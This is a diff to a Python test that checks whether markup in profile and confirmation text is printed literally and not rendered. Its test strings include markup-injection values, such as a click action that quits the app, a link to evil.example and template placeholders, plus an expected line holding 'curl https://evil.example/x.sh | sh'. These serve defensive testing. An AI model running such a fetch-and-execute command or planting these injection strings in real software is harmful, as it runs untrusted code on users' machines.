@@ -263,7 +263,10 @@ def test_markup_is_text_not_formatting() -> None:
         "Profile: [bold red]Dr. Evil[/bold red] [link=https://evil.example]click[/link]"
         in out.stdout
     )
-    assert "CONFIRM   [reverse]Press Y to continue[/reverse]" in out.stdout
+    # A question not yet answered is titled by the question itself, as on the screen.
+    assert "CONFIRM   Is the door closed? [@click=app.quit]Yes[/] {{template}} %s ${HOME}" in (
+        out.stdout
+    )
     valid = run("profile", "validate", "markup.toml").stdout
     assert "[@click=app.quit]Yes[/]" in valid and "`curl https://evil.example/x.sh | sh`" in valid
 
